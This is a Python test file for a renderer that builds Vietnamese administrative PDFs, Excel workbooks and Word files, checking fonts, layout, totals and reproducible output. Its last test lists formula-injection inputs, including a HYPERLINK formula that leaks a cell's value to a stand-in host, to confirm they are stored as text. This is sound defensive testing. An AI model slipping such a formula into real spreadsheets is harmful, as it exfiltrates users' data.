"""Files read back as a user's program would: PDFs with pypdf, workbooks with openpyxl,
Word files with python-docx."""

import io
import unicodedata
from datetime import UTC, datetime

import docx as python_docx
import openpyxl
import pypdf
import pytest
from docx.oxml.ns import qn

from documents import renderers
from documents.models import JobStatus
from documents.registry import Rendered, RenderError
from documents.services import request_document
from tests.documents import readback
from tests.fidelity import docx_text

HEADER_LINES = [
    "UBND TỈNH THỬ",
    "UBND PHƯỜNG AN",
    "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
    "Độc lập - Tự do - Hạnh phúc",
    "Số: 125/QĐ-UBND",
    "An, ngày 12 tháng 8 năm 2025",
]
TRICKY = "Nguyễn Thị Ngọc Ánh, Đặng Quỳnh Ỷ, Trương Ưng Ửng, Lê Văn Thưởng: 1.234.567 đ"


def pdf_text(content: bytes) -> str:
    reader = pypdf.PdfReader(io.BytesIO(content))
    return "\n".join(page.extract_text() for page in reader.pages)


def pdf_fonts(content: bytes) -> list[tuple[str, bool]]:
    """(name, embedded) of every font the pages use."""
    fonts = []
    for page in pypdf.PdfReader(io.BytesIO(content)).pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            descendants = font.get("/DescendantFonts")
            described = descendants[0].get_object() if descendants else font
            descriptor = described["/FontDescriptor"].get_object()
            embedded = any(k in descriptor for k in ("/FontFile", "/FontFile2", "/FontFile3"))
            fonts.append((str(font["/BaseFont"]), embedded))
    return fonts


def test_the_header_block_reads_back_with_every_font_embedded_and_no_glyph_missing(typ_dir):
    pdf = renderers.typst_pdf("plain.typ", {"text": TRICKY})
    text = pdf_text(pdf)
    for line in [*HEADER_LINES, TRICKY]:
        assert line in text
    # A glyph no font has is written as .notdef, which reads back as NUL.
    assert "\x00" not in text
    fonts = pdf_fonts(pdf)
    assert fonts
    for name, embedded in fonts:
        assert embedded, name
        # The bundled Liberation Serif 2.x only: no system font, no Typst default font.
        assert name.split("+")[-1].startswith("LiberationSerif"), name


def test_decomposed_text_is_printed_composed(typ_dir):
    decomposed = unicodedata.normalize("NFD", "Hòa giải viên Trần Thị Thủy")
    assert decomposed != "Hòa giải viên Trần Thị Thủy"
    text = pdf_text(renderers.typst_pdf("plain.typ", {"text": decomposed}))
    assert "Hòa giải viên Trần Thị Thủy" in text
    assert "\x00" not in text


def test_a_character_the_font_lacks_is_refused_by_name(typ_dir):
    with pytest.raises(RenderError, match=r"“汉” \(U\+6C49\) trong “Lê 汉”"):
        renderers.typst_pdf("plain.typ", {"text": "Lê 汉"})


def test_a_missing_font_is_named(typ_dir, settings):
    settings.DOCUMENTS_FONT_FILES = [*settings.DOCUMENTS_FONT_FILES, "LiberationSerif-Thin.ttf"]
    with pytest.raises(RenderError, match="Thiếu phông chữ LiberationSerif-Thin.ttf"):
        renderers.typst_pdf("plain.typ", {"text": "x"})


def test_a_template_error_names_the_template(typ_dir):
    typ_dir.write("broken.typ", "#let data = json(bytes(sys.inputs.data))\n#data.nothing\n")
    with pytest.raises(RenderError, match="broken.typ có lỗi: dictionary does not contain key"):
        renderers.typst_pdf("broken.typ", {"text": "x"})
    with pytest.raises(RenderError, match="Không tìm thấy mẫu văn bản missing.typ"):
        renderers.typst_pdf("missing.typ", {})


def test_a_template_using_another_font_is_refused(typ_dir):
    typ_dir.write("arial.typ", '#set text(font: "Arial", fallback: false)\nXin chào')
    with pytest.raises(RenderError, match="phông chữ không có"):
        renderers.typst_pdf("arial.typ", {})


def test_a_broken_template_fails_the_job_without_a_file(people, units, kind, typ_dir):
    typ_dir.write("broken.typ", "#table(columns: 2, [a]\n")

    def render(request):
        return Rendered("hong.pdf", renderers.typst_pdf("broken.typ", {}))

    kind("t.broken_template", render)
    job = request_document(people["ward_official"], "t.broken_template", units["ward"], "pdf")
    assert job.status == JobStatus.FAILED
    assert "Mẫu văn bản broken.typ có lỗi" in job.error
    assert not job.file


def test_pdfs_are_the_same_bytes_for_the_same_data_and_date(typ_dir):
    when = datetime(2025, 8, 12, 3, 0, tzinfo=UTC)
    with renderers.document_timestamp(when):
        first = renderers.typst_pdf("plain.typ", {"text": TRICKY})
        second = renderers.typst_pdf("plain.typ", {"text": TRICKY})
    assert first == second
    assert pypdf.PdfReader(io.BytesIO(first)).metadata["/CreationDate"] == "D:20250812030000Z"
    with renderers.document_timestamp(when):
        assert renderers.typst_pdf("plain.typ", {"text": "khác"}) != first


def test_a_workbook_has_heading_header_rows_and_totals():
    rows = ([n, f"Hộ {n}", n * 1000] for n in range(1, 1201))  # a generator: never a list
    progress = []
    content = renderers.xlsx(
        rows,
        headers=["STT", "Tên", "Số tiền"],
        title="Danh sách: đợt 1/2025",
        heading=["DANH SÁCH KHEN THƯỞNG"],
        footer=[["", "Cộng", 720600000]],
        widths=[6, 30, 14],
        progress=progress.append,
    )
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    assert sheet.title == "Danh sách  đợt 1 2025"
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "DANH SÁCH KHEN THƯỞNG"
    assert values[2] == ("STT", "Tên", "Số tiền")
    assert values[3] == (1, "Hộ 1", 1000)
    assert values[-1] == (None, "Cộng", 720600000)
    assert len(values) == 3 + 1200 + 1
    assert sheet["A3"].font.b
    assert progress == [500, 1000]


def test_workbooks_and_word_files_are_the_same_bytes_for_the_same_data(clock):
    """A job run again later (a retry, a reprint) writes the file it wrote the first time."""
    when = datetime(2025, 8, 12, tzinfo=UTC)

    def word(document):
        document.add_paragraph("Nội dung")

    sheets, words = [], []
    for _ in range(2):
        with renderers.document_timestamp(when):
            sheets.append(renderers.xlsx([[1, "Thôn Đông"]], headers=["STT", "Tên"]))
            words.append(renderers.docx(word))
        clock.shift(61)
    assert sheets[0] == sheets[1]
    assert words[0] == words[1]
    core = openpyxl.load_workbook(io.BytesIO(sheets[0])).properties
    assert core.created == core.modified == when.replace(tzinfo=None)


@pytest.mark.parametrize("landscape", [False, True])
def test_a_word_file_has_the_national_header_and_decree_margins(landscape):
    def build(document):
        renderers.docx_national_header(
            document,
            authority=["Ủy ban nhân dân", "phường Điện Bàn Đông"],
            number="125/QĐ-UBND",
            place="Điện Bàn Đông",
            date="ngày 12 tháng 8 năm 2025",
        )
        document.add_paragraph(TRICKY)

    document = python_docx.Document(io.BytesIO(renderers.docx(build, landscape=landscape)))
    readback.assert_word_fit_to_sign(document, landscape=landscape)
    text = docx_text(document)
    for line in [
        "ỦY BAN NHÂN DÂN",
        "PHƯỜNG ĐIỆN BÀN ĐÔNG",
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Số: 125/QĐ-UBND",
        "Điện Bàn Đông, ngày 12 tháng 8 năm 2025",
        TRICKY,
    ]:
        assert line in text.splitlines()
    assert document.styles["Normal"].font.name == "Times New Roman"
    # One width everywhere: the grid, each cell of both rows and the page's text width, in a
    # fixed layout (Word obeyed the cells, LibreOffice the grid: the Quốc hiệu wrapped).
    table = document.tables[0]
    grid, cells = readback.table_widths(table)
    assert cells == [pytest.approx(grid, abs=0.1)] * 2
    assert sum(grid) == pytest.approx(252 if landscape else 165, abs=0.2)
    assert table._tbl.tblPr.find(qn("w:tblLayout")).get(qn("w:type")) == "fixed"
    # The Quốc hiệu (12 pt bold, 88.3 mm) fits its column inside Word's 1.9 mm cell padding.
    assert grid[1] - 2 * 1.9 > 88.3 + 2
    # The rules: under the motto as long as the motto (56.1 mm at 13 pt bold); under the
    # issuing body 40 % of its longest line ("PHƯỜNG ĐIỆN BÀN ĐÔNG", 58.8 mm).
    authority_cell, motto_cell = table.rows[0].cells
    for cell, column_mm, after, length_mm in (
        (authority_cell, grid[0], "PHƯỜNG ĐIỆN BÀN ĐÔNG", 0.4 * 58.8),
        (motto_cell, grid[1], "Độc lập - Tự do - Hạnh phúc", 56.1),
    ):
        texts = [paragraph.text for paragraph in cell.paragraphs]
        ruled = cell.paragraphs[texts.index(after) + 1]
        border = ruled._p.pPr.find(qn("w:pBdr")).find(qn("w:bottom"))
        assert border.get(qn("w:val")) == "single"
        indents = ruled.paragraph_format.left_indent.mm + ruled.paragraph_format.right_indent.mm
        assert column_mm - 2 * 1.9 - indents == pytest.approx(length_mm, abs=0.3)


def test_a_workbook_is_ready_to_sum_and_print():
    rows = [["I. BẰNG KHEN"], ["1", "Lê Thị An", "1985", "1.404.000"], ["2", "Hộ B", "", "500"]]
    rows += [["", "Cộng", "", renderers.SUM], ["II. GIẤY KHEN"], [1, "Trần Văn Bình", 1990, 300]]
    rows += [["", "Cộng", "", renderers.SUM]]
    content = renderers.xlsx(
        rows,
        headers=["STT", "Họ và tên", "Năm sinh", "Tiền thưởng (đồng)"],
        title="Danh sách khen thưởng năm 2025",
        heading=["DANH SÁCH KHEN THƯỞNG", "(Kèm theo Quyết định số 125/QĐ-UBND)"],
        footer=[["", "Tổng cộng", "", renderers.SUM]],
        formats=[renderers.CODE, renderers.TEXT, renderers.CODE, renderers.NUMBER],
        landscape=True,
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet.title == "Danh sách khen thưởng năm 2025"
    values = list(sheet.iter_rows(min_row=5, values_only=True))
    assert values == [
        ("I. BẰNG KHEN", None, None, None),
        (1, "Lê Thị An", 1985, 1404000),
        (2, "Hộ B", None, 500),
        (None, "Cộng", None, "=SUBTOTAL(9,D5:D7)"),
        ("II. GIẤY KHEN", None, None, None),
        (1, "Trần Văn Bình", 1990, 300),
        (None, "Cộng", None, "=SUBTOTAL(9,D9:D10)"),
        (None, "Tổng cộng", None, "=SUBTOTAL(9,D5:D11)"),
    ]
    assert sheet["D6"].number_format == "#,##0"
    assert sheet["C6"].number_format == "0"
    assert sheet["B6"].number_format == "General"
    readback.assert_sheet_printable(sheet, header_row=4, landscape=True)


def test_a_sheet_name_is_never_cut():
    with pytest.raises(ValueError, match="31 characters"):
        renderers.xlsx([[1]], title="Mô hình tự quản về ANTT theo loại")


def test_the_list_template_repeats_its_header_row_on_every_page():
    rows = [[str(n), f"Hộ ông Nguyễn Văn Ánh {n}", "1.000"] for n in range(1, 121)]
    data = {
        "authority": "UBND phường An",
        "sub_authority": "UBND tỉnh Thử",
        "number": "12/DS-UBND",
        "place": "An",
        "date": "ngày 12 tháng 8 năm 2025",
        "title": "Danh sách hộ gia đình",
        "columns": ["STT", "Tên hộ", "Số tiền"],
        "widths": ["auto", "1fr", "30mm"],
        "numeric": [0, 2],
        "rows": rows,
        "totals": ["", "Cộng", "120.000"],
        "signer": {"position": "Chủ tịch", "name": "Trần Văn Bình"},
    }
    reader = pypdf.PdfReader(io.BytesIO(renderers.typst_pdf("common/list.typ", data)))
    texts = [page.extract_text() for page in reader.pages]
    assert len(texts) >= 3
    assert "Số: 12/DS-UBND" in texts[0]
    assert "DANH SÁCH HỘ GIA ĐÌNH" in texts[0]
    for text in texts:
        assert "STT Tên hộ Số tiền" in text
    # Page numbers from the second page on.
    assert texts[1].splitlines()[0] == "2"
    assert "Hộ ông Nguyễn Văn Ánh 120 1.000" in texts[-1]
    assert "Cộng 120.000" in texts[-1]
    assert "CHỦ TỊCH" in texts[-1]
    assert "Trần Văn Bình" in texts[-1]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?leak="&A1,"Bấm vào đây")',
        "+84 912 345 678",
        "-1+2",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_begins_like_a_formula_is_written_as_text(text):
    content = renderers.xlsx([[text, 5]], headers=["Tên", "Số"], footer=[[text, 5]])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    for row in (2, 3):
        assert sheet.cell(row, 1).data_type == "s"
        # openpyxl reads a leading tab or carriage return back without it.
        assert sheet.cell(row, 1).value == text.lstrip("\t\r")
        assert sheet.cell(row, 1).quotePrefix
        assert (sheet.cell(row, 2).data_type, sheet.cell(row, 2).value) == ("n", 5)
